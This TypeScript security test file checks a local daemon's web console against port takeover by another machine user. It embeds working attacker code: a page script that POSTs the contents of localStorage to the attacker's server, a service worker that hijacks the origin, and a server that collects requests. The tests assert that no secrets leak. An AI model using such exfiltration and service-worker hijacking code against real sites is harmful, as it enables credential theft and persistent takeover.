import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import type { Browser, Page } from 'playwright-core';
import { ControlHarness } from '../control/control-harness.js';
import { closeContexts, sharedChromium } from '../helpers/chromium.js';
import { eventually } from '../helpers/eventually.js';
import { freePort } from '../helpers/free-port.js';
import { endProcess, OTHER_UID, otherUserTest, startAs } from '../helpers/other-user.js';

/**
 * Another user of the machine takes the console's port while no daemon runs, and serves a page with a service worker
 * there, under whatever name it is asked for (docs/adr/0039-an-origin-for-each-run.md).
 */

/** What the other user's page stores in the browser and sends to its server, in the background after its end, too. */
const WORKER = `
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
  self.addEventListener('fetch', (event) => {
    if (!event.request.url.startsWith(location.origin)) return;
    event.respondWith(new Response('<title>Taken over for good</title>', { headers: { 'content-type': 'text/html' } }));
  });
`;
const PAGE = `<!doctype html><title>Taken over</title><script>
  const found = JSON.stringify({ ...localStorage });
  navigator.serviceWorker.register('/worker.js')
    .then(() => navigator.serviceWorker.ready)
    .then(() => fetch('/taken', { method: 'POST', body: found }))
    .then(() => { document.title = 'Taken over for good'; });
</script>`;
const SERVER = `
  const { createServer } = require('node:http');
  const [, port, page, worker, ] = process.argv;
  const lines = [];
  const listener = (request, response) => {
    let body = '';
    request.on('data', (chunk) => { body += chunk; });
    request.on('end', () => {
      lines.push([request.method, request.url, JSON.stringify(request.headers), body].join(' '));
      if (request.url === '/seen') return response.end(lines.join('\\n'));
      const isWorker = request.url === '/worker.js';
      response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html');
      response.end(isWorker ? worker : page);
    });
  };
  createServer(listener).listen(Number(port), '127.0.0.1', () =>
    createServer(listener).listen(Number(port), '::1', () => console.log('ready')).on('error', () => console.log('ready')));
`;

class Stranger {
  private constructor(
    private readonly child: ChildProcess,
    private readonly port: number,
  ) {}

  static async start(port: number): Promise<Stranger> {
    const { child } = await startAs(OTHER_UID, SERVER, String(port), PAGE, WORKER);
    return new Stranger(child, port);
  }

  /** All requests that its server got, with their headers and bodies. */
  async seen(): Promise<string> {
    return (await fetch(`http://127.0.0.1:${this.port}/seen`)).text();
  }

  stop(): Promise<void> {
    return endProcess(this.child);
  }
}

interface Takeover {
  readonly harness: ControlHarness;
  readonly browser: Browser;
  readonly port: number;
}

/** A daemon on a port that the system does not give to others while it is stopped, and a browser. */
function takeoverTest(title: string, run: (takeover: Takeover) => Promise<void>): void {
  otherUserTest(title, async () => {
    const harness = await ControlHarness.start();
    const browser = await sharedChromium();
    try {
      const port = await freePort();
      await harness.server.stop();
      await harness.startServer(port);
      await run({ harness, browser, port });
    } finally {
      await closeContexts(browser);
      await harness.stop();
    }
  });
}

async function openConsole(browser: Browser, harness: ControlHarness): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await page.goto(await harness.address());
  await page.getByText('Live', { exact: true }).waitFor();
  return page;
}

const secretsOf = (page: Page) => page.evaluate<string[]>(`Object.values(localStorage).join().split('.')`);

takeoverTest(
  'a page that stays open sends no secret to another user’s server, and continues with the next daemon',
  async ({ harness, browser, port }) => {
    const page = await openConsole(browser, harness);
    const former = harness.server.pageUrl;
    const [, key = ''] = await secretsOf(page);
    const cookies = await page.context().cookies();
    await harness.server.stop();
    const stranger = await Stranger.start(port);
    try {
      await page.getByText('Guildhall does not answer').waitFor();
      await eventually(async () => (await stranger.seen()).includes('POST /proof'));
      const seen = await stranger.seen();
      assert.doesNotMatch(seen, /x-guildhall-console|cookie/);
      for (const secret of [key, ...cookies.map(({ value }) => value)]) assert.ok(!seen.includes(secret));
    } finally {
      await stranger.stop();
    }
    await harness.startServer(port);
    assert.notEqual(harness.server.pageUrl, former);
    await page.getByText('Live', { exact: true }).waitFor();
    assert.equal(new URL(page.url()).origin, new URL(harness.server.pageUrl).origin);
    const second = await page.context().newPage();
    await second.goto(harness.server.consoleUrl);
    await second.getByText('Live', { exact: true }).waitFor();
  },
);

takeoverTest(
  'a worker that another user left for the console sees no code, no secret and no data of the next daemon',
  async ({ harness, browser, port }) => {
    const page = await openConsole(browser, harness);
    const { origin: former } = new URL(harness.server.pageUrl);
    await harness.server.stop();
    const stranger = await Stranger.start(port);
    // A reloaded tab, a bookmark, and a restored tab.
    const taken: Page[] = [page];
    for (const address of [former, harness.server.consoleUrl]) {
      const tab = await page.context().newPage();
      await tab.goto(address).catch(() => {});
      taken.push(tab);
    }
    await page.reload();
    for (const tab of taken) await eventually(async () => (await tab.title()) === 'Taken over for good');
    const stolen = await secretsOf(page);
    await stranger.stop();
    await harness.startServer(port);

    const opened = await page.context().newPage();
    const address = await harness.address();
    await opened.goto(address);
    await opened.getByText('Live', { exact: true }).waitFor();
    assert.equal(opened.url(), harness.server.pageUrl);
    const workers = `navigator.serviceWorker.getRegistrations().then((found) => found.length)`;
    assert.equal(await opened.evaluate(workers), 0);
    for (const tab of taken) assert.equal(await tab.evaluate(workers), 1);
    // What the other user's pages, which are still open, can do with everything that they found.
    const [name, key = ''] = stolen;
    for (const tab of taken) {
      const outcomes = await tab.evaluate(
        async ([origin = '', header = '']) => {
          const outcome = (path: string, init: RequestInit) =>
            fetch(origin + path, init).then(
              (response) => `${response.type} ${response.status}`,
              () => 'refused',
            );
          const headers = { 'x-guildhall-console': header };
          return [
            await outcome('/api/status', { headers, credentials: 'include' }),
            await outcome('/api/status', { mode: 'no-cors', credentials: 'include' }),
            await outcome('/proof', { method: 'POST', body: '{}' }),
            await outcome('/session', { method: 'POST', body: '{}' }),
          ];
        },
        [new URL(opened.url()).origin, `${name}.${key}`],
      );
      assert.deepEqual(
        outcomes.filter((outcome) => !['refused', 'opaque 0'].includes(outcome)),
        [],
      );
    }
    assert.equal(harness.server.pageUrl, opened.url());
  },
);
